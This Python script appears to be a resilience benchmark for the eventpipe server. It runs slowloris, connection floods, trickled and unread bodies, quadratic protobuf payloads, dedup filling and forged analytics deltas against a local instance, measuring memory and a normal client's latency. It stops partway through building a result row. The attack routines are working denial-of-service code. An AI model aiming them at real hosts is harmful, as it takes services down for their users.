#!/usr/bin/env python3
"""Hostile-load script (issue 14): each attack of the issue against a fresh
`eventpipe run`, with a normal client measured during it.

    python3 bench/attack.py --binary build/eventpipe [--duration 15] [--only NAME]
                            [--conns N] [--json]

For every attack: start a fresh `eventpipe run` (all roles in one process,
default settings, free ports, bound to 127.0.0.1), wait for /health, start the
normal client (a separate process, so the attackers' Python loop does not
slow it down), run the attack for --duration seconds, then stop everything.
Meanwhile the server's VmRSS is sampled every 100 ms from /proc/PID/status;
its VmHWM is read at the end.

The normal client: one keep-alive connection to the ingest port posting a
single JSON event to /api/v1/ingest every 20 ms and a 10-event NDJSON
/events/batch every 200 ms, and one keep-alive connection to the processor
port with GET /health every 100 ms. During the slow trickle, slowloris and the
connection floods it opens a new TCP connection for every request instead (the
question there is whether newcomers are served). Any answer other than 2xx, and any connection
error or timeout (--client-timeout), is an error; a 503 is counted apart and is
not an error.

Attackers connect from 127.0.0.2 and up, --per-addr connections per source
address, so a per-client-address connection limit does not shield the normal
client (127.0.0.1) from them; the *-one-addr variant puts every attacker on
127.0.0.2. All traffic goes to 127.0.0.1; nothing leaves the machine.

Verdict per attack: PASS when the peak RSS stays under --max-rss-mb (256),
the normal client's worst latency under --max-latency-ms (1000), it saw no
error and the server stayed up, plus the attack's own check (dedup-fill: the
table filled past twice DEDUP_CAPACITY and a repeated id was flagged;
merge-forgery: every forged delta rejected). An attack is cut short when the
server's RSS passes --rss-limit-mb (default 2048) so that the old server does
not exhaust the machine; it then fails. Exit status: 0 when every attack
passed, 1 when one failed, 2 when the script itself could not run.

Only the Python standard library is used.
"""

import argparse
import asyncio
import gzip
import http.client
import json
import os
import random
import resource
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

TARGET = "127.0.0.1"  # the only destination of any traffic of this script

ATTACKS = [
    # name, default connections, description
    ("pb-enqueue", 4, "POST /enqueue: quadratic protobuf bodies and 1 MiB of 0a 00 pairs"),
    ("unread-answers", 4096, "gzip batch of {}\\n x 100,000 (5.5 MB per-item answer), never read"),
    ("trickled-bodies", 4096, "32 MiB batch body announced, sent in 64 KiB pieces, never finished"),
    ("trickled-bodies-slow", 4096, "32 MiB batch body announced, 64 bytes per second"),
    ("slowloris", 4200, "a request head one byte every few seconds, never finished"),
    ("conn-flood", 5000, "idle connections held past the connection cap"),
    ("conn-flood-one-addr", 5000, "conn-flood, every attacker from 127.0.0.2"),
    ("dedup-fill", 1, "unique ids past 2 x DEDUP_CAPACITY, then one id sent twice"),
    ("merge-forgery", 2, "forged /analytics/merge deltas, then 16 MiB deltas"),
]
FRESH_CLIENT = {"trickled-bodies-slow", "slowloris", "conn-flood", "conn-flood-one-addr"}


# --------------------------------------------------------------------- ports

def _port_range():
    """Ports below the kernel's ephemeral range (as tests/e2e/eptest.py): the
    attackers' own connections take ephemeral ports by the thousand."""
    try:
        with open("/proc/sys/net/ipv4/ip_local_port_range") as f:
            eph_lo = int(f.read().split()[0])
    except (OSError, ValueError, IndexError):
        eph_lo = 32768
    return (10000, eph_lo - 1) if eph_lo > 12000 else (1024, 9999)


_given = set()


def free_port():
    lo, hi = _port_range()
    for _ in range(1000):
        port = random.randint(lo, hi)
        if port in _given:
            continue
        with socket.socket() as s:
            try:
                s.bind((TARGET, port))
            except OSError:
                continue
        _given.add(port)
        return port
    raise RuntimeError("no free port")


def src_addr(i, per_addr, one_addr):
    """Source address of attacker i: 127.0.0.2 and up, never 127.0.0.1."""
    if one_addr:
        return "127.0.0.2"
    k = i // max(1, per_addr)
    return "127.%d.%d.%d" % (k // 62500 % 250, k // 250 % 250, 2 + k % 250)


def die_with_parent():
    """preexec_fn: the child gets SIGKILL if this script dies without cleaning up."""
    try:
        import ctypes
        ctypes.CDLL(None, use_errno=True).prctl(1, signal.SIGKILL)  # PR_SET_PDEATHSIG
    except (OSError, AttributeError):
        pass


def raise_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard == resource.RLIM_INFINITY or hard > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


# -------------------------------------------------------------------- server

class Server:
    """A fresh `eventpipe run` on free ports, all roles, default settings."""

    def __init__(self, binary, extra_env=None):
        for attempt in range(3):
            self.ports = {k: free_port() for k in ("api", "ingest", "processor", "analytics")}
            self.dir = tempfile.mkdtemp(prefix="ep-attack-")
            env = dict(os.environ)
            for k in list(env):
                if k.startswith(("HTTP_", "DEDUP_", "QUEUE_", "BATCH_", "EVENT_")):
                    del env[k]  # the point is to test the defaults
            env.update({
                "API_PORT": str(self.ports["api"]),
                "INGEST_PORT": str(self.ports["ingest"]),
                "PROCESSOR_PORT": str(self.ports["processor"]),
                "ANALYTICS_PORT": str(self.ports["analytics"]),
                "INGEST_URL": "http://%s:%d" % (TARGET, self.ports["ingest"]),
                "PROCESSOR_URL": "http://%s:%d" % (TARGET, self.ports["processor"]),
                "ANALYTICS_URL": "http://%s:%d" % (TARGET, self.ports["analytics"]),
                "GRPC_PRODUCER_PORT": "0",  # HTTP attacks only; no fixed gRPC ports
                "GRPC_CONSUMER_PORT": "0",
                "GRPC_ANALYTICS_PORT": "0",
                "BIND_ADDR": TARGET,
                "LOG_LEVEL": "warn",
                "QUEUE_DIR": os.path.join(self.dir, "queue"),
            })
            env.update(extra_env or {})
            self.log_path = os.path.join(self.dir, "server.log")
            self.log = open(self.log_path, "wb")
            self.proc = subprocess.Popen([binary, "run"], env=env, stdout=self.log,
                                         stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
                                         preexec_fn=die_with_parent)
            if self._wait_healthy(20):
                return
            self.stop()
            text = self.log_text()
            self.remove()
            if "Address already in use" not in text or attempt == 2:
                raise RuntimeError("eventpipe run did not come up:\n" + text[-2000:])

    def log_text(self):
        try:
            with open(self.log_path, "rb") as f:
                return f.read().decode(errors="replace")
        except OSError:
            return ""

    def _wait_healthy(self, timeout):
        deadline = time.time() + timeout
        for port in self.ports.values():
            while True:
                if self.proc.poll() is not None:
                    return False
                try:
                    c = http.client.HTTPConnection(TARGET, port, timeout=1)
                    c.request("GET", "/health")
                    ok = c.getresponse().status == 200
                    c.close()
                    if ok:
                        break
                except OSError:
                    pass
                if time.time() > deadline:
                    return False
                time.sleep(0.05)
        return True

    def status_kb(self, field):
        try:
            with open("/proc/%d/status" % self.proc.pid) as f:
                for line in f:
                    if line.startswith(field + ":"):
                        return int(line.split()[1])
        except (OSError, ValueError, IndexError):
            pass
        return 0

    def remove(self):
        shutil.rmtree(self.dir, ignore_errors=True)

    def alive(self):
        return self.proc.poll() is None

    def stop(self):
        """SIGTERM, then SIGKILL after 1 s (a server stuck in a handler does not drain)."""
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(1)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        self.log.close()


class RssSampler(threading.Thread):
    """VmRSS every 100 ms; calls on_limit once when it passes limit_kb."""

    def __init__(self, server, limit_kb, on_limit):
        super().__init__(daemon=True)
        self.server, self.limit_kb, self.on_limit = server, limit_kb, on_limit
        self.peak_kb = 0
        self.samples = 0
        self.hit_limit = False
        self.done = threading.Event()

    def run(self):
        while not self.done.is_set():
            kb = self.server.status_kb("VmRSS")
            if kb:
                self.samples += 1
                self.peak_kb = max(self.peak_kb, kb)
                if kb > self.limit_kb and not self.hit_limit:
                    self.hit_limit = True
                    self.on_limit()
            self.done.wait(0.1)


# ------------------------------------------------------------- normal client

def normal_client_main(args):
    """The normal client, run as its own process: see the module docstring.
    Prints "ready" once connected, measures until stdin closes or says stop,
    then prints one JSON line with its figures."""
    ing, proc = args.ingest_port, args.processor_port
    timeout, fresh = args.client_timeout, args.fresh
    stop = threading.Event()
    lock = threading.Lock()
    res = {"requests": 0, "ok": 0, "errors": 0, "s503": 0, "worst_ms": 0.0,
           "worst_what": "", "worst_unanswered": False, "error_samples": [], "lat_ms": []}
    finished = [False]
    single = b'{"source":"normal-client","event_type":"probe","data":"hello"}'
    batch = b"\n".join([b'{"source":"normal-client","event_type":"probe-batch","data":"%d"}' % i
                        for i in range(10)]) + b"\n"

    def record(what, ms, status, err, unanswered=False):
        with lock:
            if finished[0]:
                return
            res["requests"] += 1
            res["lat_ms"].append(ms)
            if ms > res["worst_ms"]:
                res["worst_ms"], res["worst_what"] = ms, what
                res["worst_unanswered"] = unanswered
            if status == 503:
                res["s503"] += 1
            elif err is None and 200 <= status < 300:
                res["ok"] += 1
            else:
                res["errors"] += 1
                if len(res["error_samples"]) < 5:
                    res["error_samples"].append("%s: %s" % (what, err or "HTTP %d" % status))

    class Conn:
        def __init__(self, port):
            self.port, self.c = port, None
            self.inflight = None  # (what, start) of the request waiting for its answer

        def do(self, what, method, path, body=None, ctype=None):
            hdrs = {"Content-Type": ctype} if ctype else {}
            if fresh:
                hdrs["Connection"] = "close"
            t0 = time.perf_counter()
            self.inflight = (what, t0)
            status, err = 0, None
            try:
                if self.c is None:
                    self.c = http.client.HTTPConnection(TARGET, self.port, timeout=timeout)
                self.c.request(method, path, body=body, headers=hdrs)
                r = self.c.getresponse()
                r.read()
                status = r.status
                if fresh or r.will_close:
                    self.close()
            except (OSError, http.client.HTTPException) as e:
                err = "%s: %s" % (type(e).__name__, e)
                self.close()
            self.inflight = None
            record(what, (time.perf_counter() - t0) * 1000.0, status, err,
                   isinstance(err, str) and err.startswith("TimeoutError"))

        def close(self):
            if self.c is not None:
                self.c.close()
                self.c = None

    def pace(period, fn):
        nxt = time.monotonic()
        while not stop.is_set():
            fn()
            nxt += period
            now = time.monotonic()
            if nxt < now:
                nxt = now  # late: no burst to catch up
            stop.wait(nxt - now)

    ic, pc = Conn(ing), Conn(proc)
    tick = [0]

    def ingest_step():
        ic.do("POST /api/v1/ingest", "POST", "/api/v1/ingest", single, "application/json")
        tick[0] += 1
        if tick[0] % 10 == 0:
            ic.do("POST /events/batch", "POST", "/events/batch", batch, "application/x-ndjson")

    def health_step():
        pc.do("GET /health (processor)", "GET", "/health")

    # Connect before the attack starts (keep-alive mode): one request each.
    ingest_step()
    health_step()
    threads = [threading.Thread(target=pace, args=(0.02, ingest_step), daemon=True),
               threading.Thread(target=pace, args=(0.1, health_step), daemon=True)]
    for t in threads:
        t.start()
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    deadline = time.monotonic() + args.max_seconds

    def watch_stdin():
        sys.stdin.readline()
        stop.set()

    threading.Thread(target=watch_stdin, daemon=True).start()
    while not stop.is_set() and time.monotonic() < deadline:
        stop.wait(0.2)
    stop.set()
    # A request still unanswered 1 s after the end counts with the time it waited.
    grace_end = time.monotonic() + min(1.0, timeout)
    while (ic.inflight or pc.inflight) and time.monotonic() < grace_end:
        time.sleep(0.01)
    for c in (ic, pc):
        got = c.inflight
        if got:
            record(got[0], (time.perf_counter() - got[1]) * 1000.0, 0,
                   "no answer by the end of the attack", True)
    with lock:
        finished[0] = True
    lat = sorted(res.pop("lat_ms"))
    res["p50_ms"] = lat[len(lat) // 2] if lat else 0.0
    res["p99_ms"] = lat[min(len(lat) - 1, int(len(lat) * 0.99))] if lat else 0.0
    sys.stdout.write(json.dumps(res) + "\n")
    sys.stdout.flush()
    os._exit(0)  # threads may still block on an unanswered socket


class NormalClient:
    def __init__(self, server, fresh, timeout):
        cmd = [sys.executable, os.path.abspath(__file__), "--normal-client",
               "--ingest-port", str(server.ports["ingest"]),
               "--processor-port", str(server.ports["processor"]),
               "--client-timeout", str(timeout)]
        if fresh:
            cmd.append("--fresh")
        self.proc = subprocess.Popen(cmd, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                     text=True, preexec_fn=die_with_parent)
        line = self.proc.stdout.readline()
        if line.strip() != "ready":
            self.kill()
            raise RuntimeError("normal client did not start: %r" % line)

    def finish(self):
        try:
            self.proc.stdin.write("stop\n")
            self.proc.stdin.close()
        except OSError:
            pass
        out = self.proc.stdout.read()
        self.proc.wait()
        try:
            return json.loads(out.strip().splitlines()[-1])
        except (ValueError, IndexError):
            return None

    def kill(self):
        if self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait()


# ------------------------------------------------------------- async helpers

class Ctx:
    """What an attack needs: ports, its connection count, the stop event, and
    every socket it opened (closed by the runner whatever happens)."""

    def __init__(self, server, conns, args, one_addr=False):
        self.server, self.ports, self.conns, self.args = server, server.ports, conns, args
        self.one_addr = one_addr
        self.stop = asyncio.Event()
        self.socks = set()
        self.up = set()  # attacker connections established and not yet closed by us
        self.peak_open = 0
        self.info = {}
        self.check = None  # attack-specific verdict: (ok, text)
        self.loop = asyncio.get_running_loop()

    def count(self, key, n=1):
        self.info[key] = self.info.get(key, 0) + n

    async def connect(self, port, i, rcvbuf=None):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.socks.add(s)
        try:
            s.setblocking(False)
            if rcvbuf:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
            s.bind((src_addr(i, self.args.per_addr, self.one_addr), 0))
            await self.loop.sock_connect(s, (TARGET, port))
        except BaseException:
            self.close(s)
            raise
        self.count("connects")
        self.up.add(s)
        self.peak_open = max(self.peak_open, len(self.up))
        return s

    def close(self, s):
        self.socks.discard(s)
        self.up.discard(s)
        s.close()

    def close_all(self):
        for s in list(self.socks):
            self.close(s)

    async def sleep(self, seconds):
        """Sleeps; returns True when the attack was told to stop meanwhile."""
        try:
            await asyncio.wait_for(self.stop.wait(), seconds)
            return True
        except asyncio.TimeoutError:
            return self.stop.is_set()

    async def until_stop(self, coro):
        """Runs coro until it ends or the attack stops; returns (done, result).
        Nothing starts once the attack stopped (a send that completes at once
        would otherwise keep an attacker going)."""
        if self.stop.is_set():
            coro.close()
            return False, None
        task = asyncio.ensure_future(coro)
        stopper = asyncio.ensure_future(self.stop.wait())
        try:
            await asyncio.wait({task, stopper}, return_when=asyncio.FIRST_COMPLETED)
        finally:
            stopper.cancel()
        if task.done():
            return True, task.result()
        task.cancel()
        try:
            await task
        except (asyncio.CancelledError, OSError):
            pass
        return False, None


async def read_response(loop, s):
    """One HTTP/1.1 answer (Content-Length framed): (status, head text, body)."""
    buf = bytearray()
    while b"\r\n\r\n" not in buf:
        chunk = await loop.sock_recv(s, 65536)
        if not chunk:
            raise ConnectionError("closed before an answer")
        buf += chunk
    end = buf.index(b"\r\n\r\n")
    head = bytes(buf[:end]).decode("latin-1")
    body = buf[end + 4:]
    status = int(head.split(" ", 2)[1])
    clen = 0
    for line in head.split("\r\n")[1:]:
        k, _, v = line.partition(":")
        if k.strip().lower() == "content-length":
            clen = int(v.strip())
    while len(body) < clen:
        chunk = await loop.sock_recv(s, 1 << 20)
        if not chunk:
            raise ConnectionError("closed in the middle of an answer")
        body += chunk
    return status, head, bytes(body[:clen])


def http_req(method, path, port, body=b"", ctype=None, extra=""):
    h = "%s %s HTTP/1.1\r\nHost: %s:%d\r\n" % (method, path, TARGET, port)
    if ctype:
        h += "Content-Type: %s\r\n" % ctype
    h += extra
    h += "Content-Length: %d\r\n\r\n" % len(body)
    return h.encode() + body


async def spread(ctx, n, fn):
    """Runs fn(i) for i < n, at most 1024 connects in flight at a time."""
    sem = asyncio.Semaphore(1024)

    async def one(i):
        await fn(i, sem)

    await asyncio.gather(*(one(i) for i in range(n)), return_exceptions=True)


async def connect_retrying(ctx, port, i, sem, rcvbuf=None):
    """Connects attacker i, retrying until the attack stops; None when it stopped."""
    while not ctx.stop.is_set():
        try:
            async with sem:
                done, s = await ctx.until_stop(ctx.connect(port, i, rcvbuf))
            if done:
                return s
            return None
        except OSError:
            ctx.count("connect_errors")
            if await ctx.sleep(0.2):
                return None
    return None


async def request_loop(ctx, connect, request, answers, sent=None):
    """Until the run stops: sends request() on a connection from connect() (a
    coroutine; None ends the loop) and reads the answer, counting it as
    answers % status (and each send as sent, when given). A connection error is
    counted (conn_errors); the connection is opened again after 0.1 s."""
    s = None
    while not ctx.stop.is_set():
        try:
            if s is None:
                s = await connect()
                if s is None:
                    return
            done, _ = await ctx.until_stop(ctx.loop.sock_sendall(s, request()))
            if not done:
                return
            if sent:
                ctx.count(sent)
            done, r = await ctx.until_stop(read_response(ctx.loop, s))
            if not done:
                return
            ctx.count(answers % r[0])
        except (OSError, ValueError):
            ctx.count("conn_errors")
            if s is not None:
                ctx.close(s)
                s = None
            if await ctx.sleep(0.1):
                return


# ------------------------------------------------------------------ payloads

def varint(v):
    out = bytearray()
    while v >= 0x80:
        out.append((v & 0x7F) | 0x80)
        v >>= 7
    out.append(v)
    return bytes(out)


def pb_len_field(field, data):
    return varint(field << 3 | 2) + varint(len(data)) + data


def pb_quadratic_batch(max_bytes=1 << 20):
    """A DataBatch of one DataMessage with ~260k empty metadata entries (field 5,
    `2a 00`) and ~174k number_keys (field 11) naming a key no entry has: the old
    decoder scans every entry for every number key (proto/eventpipe.proto,
    src/event/ep_event_pb.c find_key)."""
    n_meta, n_num = 260000, 174000
    msg = b"\x2a\x00" * n_meta + pb_len_field(11, b"x") * n_num
    body = pb_len_field(1, msg)
    assert len(body) <= max_bytes, len(body)
    return body


def pb_empty_messages(max_bytes=1 << 20):
    """`0a 00` pairs: a DataBatch of empty DataMessages, 1 MiB minus 16 bytes."""
    return b"\x0a\x00" * ((max_bytes - 16) // 2)


def delta(sender, seq, sections):
    """An analytics delta (src/analytics/ep_analytics.c): EPAD, version 1, sender
    u64 LE, seq varint, sections (tag u8, length varint, body), end section."""
    out = bytearray(b"EPAD\x01" + struct.pack("<Q", sender) + varint(seq))
    for tag, body in sections:
        out += bytes([tag]) + varint(len(body)) + body
    out += b"\x00\x00"
    return bytes(out)


def counts_section(total):
    return (1, varint(total) + varint(0) + varint(1) + varint(int(time.time() * 1e6)))


def sources_section(name, count):
    body = varint(1) + struct.pack("<Q", random.getrandbits(64)) + varint(count)
    body += varint(len(name)) + name + varint(0)
    return (3, body)


def big_delta(sender, size=16 << 20):
    """A well-formed delta of exactly size bytes: counts of 1 and an unknown section."""
    head = delta(sender, 1, [counts_section(1)])[:-2]
    pad = size - len(head) - 2 - 1 - 4
    body = head + bytes([200]) + varint(pad) + b"\0" * pad + b"\x00\x00"
    assert len(body) == size and len(varint(pad)) == 4
    return body


# ------------------------------------------------------------------- attacks

async def atk_pb_enqueue(ctx):
    port = ctx.ports["processor"]
    bodies = [http_req("POST", "/enqueue", port, pb_quadratic_batch(), "application/x-protobuf"),
              http_req("POST", "/enqueue", port, pb_empty_messages(), "application/x-protobuf")]
    ctx.info["bodies"] = "quadratic %d B, 0a00 %d B" % (len(bodies[0]), len(bodies[1]))
    sem = asyncio.Semaphore(256)

    async def worker(i):
        await request_loop(ctx, lambda: connect_retrying(ctx, port, i, sem),
                           lambda: bodies[i % 2], "answers_%d", sent="sent")

    await asyncio.gather(*(worker(i) for i in range(ctx.conns)))


async def atk_unread_answers(ctx):
    port = ctx.ports["ingest"]
    gz = gzip.compress(b"{}\n" * 100000, 9)
    req = http_req("POST", "/events/batch", port, gz, "application/x-ndjson",
                   "Content-Encoding: gzip\r\n")
    ctx.info["gzip_bytes"] = len(gz)

    async def one(i, sem):
        # A small receive buffer: the answer stays in the server, not in our kernel.
        s = await connect_retrying(ctx, port, i, sem, rcvbuf=4096)
        if s is None:
            return
        try:
            await ctx.loop.sock_sendall(s, req)
            ctx.count("sent")
        except OSError:
            ctx.count("send_errors")
        await ctx.stop.wait()

    await spread(ctx, ctx.conns, one)


def trickle_head(port):
    return ("POST /events/batch HTTP/1.1\r\nHost: %s:%d\r\nContent-Type: application/x-ndjson\r\n"
            "Content-Length: %d\r\n\r\n" % (TARGET, port, 32 << 20)).encode()


async def trickle(ctx, piece, pause):
    """Announces a 32 MiB batch body and sends piece after piece (pause seconds
    apart) up to most of it, never finishing; holds the connection then. An
    attacker whose connection the server closes comes back (0.1 s later)."""
    port = ctx.ports["ingest"]
    head = trickle_head(port)
    most = (32 << 20) - (1 << 20)

    async def one(i, sem):
        while not ctx.stop.is_set():
            s = await connect_retrying(ctx, port, i, sem)
            if s is None:
                return
            try:
                await ctx.loop.sock_sendall(s, head)
                if pause and await ctx.sleep(random.random() * pause):
                    return
                sent = 0
                while sent < most and not ctx.stop.is_set():
                    done, _ = await ctx.until_stop(ctx.loop.sock_sendall(s, piece))
                    if not done:
                        return
                    sent += len(piece)
                    ctx.count("body_bytes", len(piece))
                    if pause and await ctx.sleep(pause):
                        return
                done, _ = await ctx.until_stop(ctx.loop.sock_recv(s, 4096))
                if not done:
                    return
            except OSError:
                pass
            ctx.count("closed_by_server")
            ctx.close(s)
            if await ctx.sleep(0.1):
                return

    await spread(ctx, ctx.conns, one)


async def atk_trickled_bodies(ctx):
    line = b'{"source":"attack","data":"trickle"}\n'
    await trickle(ctx, memoryview((line * (65536 // len(line) + 1))[:65536]), 0)


async def atk_trickled_bodies_slow(ctx):
    await trickle(ctx, b'{"source":"a","data":"slow trickle"}\n'[:32] * 2, 1.0)  # 64 B/s


async def atk_slowloris(ctx):
    port = ctx.ports["ingest"]
    head = ("POST /events/batch HTTP/1.1\r\nHost: %s:%d\r\nX-Slow: " % (TARGET, port)).encode()
    interval = ctx.args.slowloris_interval

    async def one(i, sem):
        s = await connect_retrying(ctx, port, i, sem)
        pos = 0
        if await ctx.sleep(random.random() * interval):
            return
        while s is not None and not ctx.stop.is_set():
            try:
                await ctx.loop.sock_sendall(s, head[pos:pos + 1] if pos < len(head) else b"a")
                pos += 1
                ctx.count("bytes")
            except OSError:
                ctx.count("closed_by_server")
                ctx.close(s)
                if await ctx.sleep(0.1):
                    return
                s = await connect_retrying(ctx, port, i, sem)  # the attacker comes back
                pos = 0
                continue
            if await ctx.sleep(interval):
                return

    await spread(ctx, ctx.conns, one)


async def atk_conn_flood(ctx):
    port = ctx.ports["ingest"]

    async def one(i, sem):
        while not ctx.stop.is_set():
            s = await connect_retrying(ctx, port, i, sem)
            if s is None:
                return
            try:
                done, data = await ctx.until_stop(ctx.loop.sock_recv(s, 4096))
            except OSError:
                done = True
            if not done:
                return
            ctx.count("closed_by_server")  # closed or reset: come back, as an attacker would
            ctx.close(s)
            if await ctx.sleep(0.1):
                return

    await spread(ctx, ctx.conns, one)


async def atk_dedup_fill(ctx):
    port = ctx.ports["ingest"]
    cap, per = ctx.args.dedup_capacity, 100000
    target = 2 * cap + per  # strictly past twice the capacity
    budget_end = time.monotonic() + ctx.args.dedup_budget
    s = await ctx.connect(port, 0)
    tag = "%08x" % random.getrandbits(32)
    sent = accepted = 0
    times = []
    while sent < target and not ctx.stop.is_set() and time.monotonic() < budget_end:
        n = min(per, target - sent)
        body = b"\n".join([b'{"id":"f%s-%d","source":"dedup-fill","data":"x"}' %
                           (tag.encode(), sent + k) for k in range(n)])
        t0 = time.monotonic()
        try:
            await asyncio.wait_for(ctx.loop.sock_sendall(s, http_req(
                "POST", "/events/batch", port, body, "application/x-ndjson")),
                max(budget_end - time.monotonic(), 0.1))
            left = budget_end - time.monotonic()
            status, _, ans = await asyncio.wait_for(read_response(ctx.loop, s), max(left, 0.1))
        except (asyncio.TimeoutError, OSError) as e:
            ctx.info["note"] = ("batch %d: %s after %.1f s" % (
                len(times) + 1, "no answer within the budget" if isinstance(e, asyncio.TimeoutError)
                else "%s: %s" % (type(e).__name__, e), time.monotonic() - t0))
            ctx.close(s)  # its answer may still come: the probe uses a new connection
            s = await ctx.connect(port, 0)
            break
        times.append(time.monotonic() - t0)
        sent += n
        try:
            accepted += json.loads(ans).get("accepted", 0)
        except ValueError:
            ctx.count("bad_answers")
        ctx.count("batches_%d" % status)
    ctx.info.update(ids_sent=sent, ids_accepted=accepted, capacity=cap,
                    batch_s_first=round(times[0], 3) if times else None,
                    batch_s_max=round(max(times), 3) if times else None,
                    batch_s_last=round(times[-1], 3) if times else None)
    # The same id twice: the second must come back flagged as a duplicate.
    probe = ('{"id":"probe-%s","source":"dedup-fill","data":"x"}' % tag).encode()
    flags = []  # (status, flagged) of the two answers
    try:
        if ctx.stop.is_set():
            raise OSError("the attack was stopped before the probe")
        for _ in range(2):
            await ctx.loop.sock_sendall(s, http_req("POST", "/api/v1/ingest", port, probe,
                                                    "application/json"))
            status, _, ans = await asyncio.wait_for(read_response(ctx.loop, s),
                                                    ctx.args.dedup_probe_timeout)
            flags.append((status, b'"duplicate":true' in ans))
    except asyncio.TimeoutError:
        flags.append((0, "no answer within %.0f s" % ctx.args.dedup_probe_timeout))
    except OSError as e:
        flags.append((0, "%s: %s" % (type(e).__name__, e)))
    ctx.close(s)
    filled = sent >= target
    if len(flags) < 2:
        probe = "repeated id: %s" % flags[-1][1]
    elif flags[1][1]:
        probe = "repeated id flagged duplicate"
    else:
        probe = "repeated id accepted twice, NOT flagged duplicate (HTTP %d, %d)" % (
            flags[0][0], flags[1][0])
    ctx.info["duplicate_flagged"] = len(flags) == 2 and flags[1][1]
    ctx.check = (filled and ctx.info["duplicate_flagged"],
                 "filled %d/%d ids in %d batches of %.2f-%.2f s; %s" % (
                     sent, target, len(times), min(times) if times else 0,
                     max(times) if times else 0, probe))


def summary(port):
    """GET /analytics/summary, or None when it does not answer in 10 s."""
    c = http.client.HTTPConnection(TARGET, port, timeout=10)
    try:
        c.request("GET", "/analytics/summary")
        r = c.getresponse()
        return json.loads(r.read())
    except (OSError, http.client.HTTPException, ValueError):
        return None
    finally:
        c.close()


async def atk_merge_forgery(ctx):
    port = ctx.ports["analytics"]
    loop = ctx.loop
    base = random.getrandbits(48) << 8
    forged_name = b"forged-source-%d" % random.getrandbits(20)
    cases = [
        ("huge-total", delta(base + 1, 1, [counts_section(10 ** 15)])),
        ("fake-source", delta(base + 2, 1, [counts_section(1),
                                            sources_section(forged_name, 10 ** 12)])),
        ("wraparound", delta(base + 3, 1, [counts_section(2 ** 64 - 1)])),
        ("16MiB-body", big_delta(base + 4)),
    ]
    verdicts = {}
    s = await ctx.connect(port, 0)
    for name, body in cases:
        before = await loop.run_in_executor(None, summary, port)
        try:
            # A server that refuses early may close while the body is still going out.
            await loop.sock_sendall(s, http_req("POST", "/analytics/merge", port, body,
                                                "application/octet-stream"))
            status, head, ans = await asyncio.wait_for(read_response(loop, s), 30)
        except (OSError, asyncio.TimeoutError) as e:
            status, ans = 0, ("%s: %s" % (type(e).__name__, e)).encode()
            ctx.close(s)
            s = await ctx.connect(port, 0)
        after = await loop.run_in_executor(None, summary, port)
        took = 200 <= status < 300 and b'"merged":true' in ans
        tb = ta = -1
        if before is not None and after is not None:  # what the aggregate shows
            tb, ta = before.get("total_events", 0), after.get("total_events", 0)
            if name == "huge-total":
                took = took or ta - tb >= 10 ** 15
            elif name == "fake-source":
                took = took or forged_name.decode() in after.get("events_by_source", {})
            elif name == "wraparound":
                took = took or ta < tb or ta >= 2 ** 63
        verdicts[name] = "accepted" if took else "rejected"
        ctx.info[name] = "%s (HTTP %d, total %d -> %d)" % (verdicts[name], status, tb, ta)
    ctx.close(s)
    ctx.check = (all(v == "rejected" for v in verdicts.values()),
                 ", ".join("%s %s" % kv for kv in verdicts.items()))

    # The rest of the time: 16 MiB deltas from a few connections.
    async def pound(i):
        seq = [0]

        def next_delta():
            seq[0] += 1
            return http_req("POST", "/analytics/merge", port,
                            big_delta(base + 100 + i * 1000 + seq[0]), "application/octet-stream")
        await request_loop(ctx, lambda: ctx.connect(port, i + 1), next_delta, "big_answers_%d")

    await asyncio.gather(*(pound(i) for i in range(ctx.conns)))


RUNNERS = {
    "pb-enqueue": atk_pb_enqueue,
    "unread-answers": atk_unread_answers,
    "trickled-bodies": atk_trickled_bodies,
    "trickled-bodies-slow": atk_trickled_bodies_slow,
    "slowloris": atk_slowloris,
    "conn-flood": atk_conn_flood,
    "conn-flood-one-addr": atk_conn_flood,
    "dedup-fill": atk_dedup_fill,
    "merge-forgery": atk_merge_forgery,
}


# -------------------------------------------------------------------- runner

async def run_attack(name, conns, server, args):
    ctx = Ctx(server, conns, args, one_addr=name.endswith("-one-addr"))
    limit_hit = []

    def on_limit():
        limit_hit.append(True)
        ctx.loop.call_soon_threadsafe(ctx.stop.set)

    sampler = RssSampler(server, args.rss_limit_mb * 1024, on_limit)
    rss0_kb = server.status_kb("VmRSS")
    sampler.start()
    client = None
    try:
        client = NormalClient(server, name in FRESH_CLIENT, args.client_timeout)
        return await _run_measured(name, conns, server, args, ctx, sampler, client, limit_hit,
                                   rss0_kb)
    finally:
        sampler.done.set()
        ctx.close_all()
        if client is not None:
            client.kill()


async def _run_measured(name, conns, server, args, ctx, sampler, client, limit_hit, rss0_kb):
    t0 = time.monotonic()
    duration = args.duration
    if name == "dedup-fill":  # ends by itself: fill budget, then two probe answers
        duration = args.dedup_budget + 2 * args.dedup_probe_timeout + 5
    timer = ctx.loop.call_later(duration, ctx.stop.set)
    task = asyncio.ensure_future(RUNNERS[name](ctx))
    error = None
    try:
        await asyncio.wait_for(asyncio.shield(task), duration + 5)
    except asyncio.TimeoutError:
        pass
    except Exception as e:  # noqa: BLE001 - reported in the row, the run goes on
        error = "%s: %s" % (type(e).__name__, e)
    finally:
        ctx.stop.set()
        timer.cancel()
        if not task.done():
            task.cancel()
            try:
                await task
            except BaseException:  # noqa: BLE001
                pass
    elapsed = time.monotonic() - t0
    normal = client.finish()
    alive = server.alive()
    hwm_kb = server.status_kb("VmHWM")
    sampler.done.set()
    sampler.join()
    ctx.close_all()
    peak_kb = max(hwm_kb, sampler.peak_kb)
    row = {
        "attack": name, "connections": conns, "peak_open": ctx.peak_open,
        "duration_s": round(elapsed, 1),
        "rss_start_mb": round(rss0_kb / 1024, 1), "peak_rss_mb": round(peak_kb / 1024, 1),
        "vmhwm_mb": round(hwm_kb / 1024, 1), "rss_samples": sampler.samples,
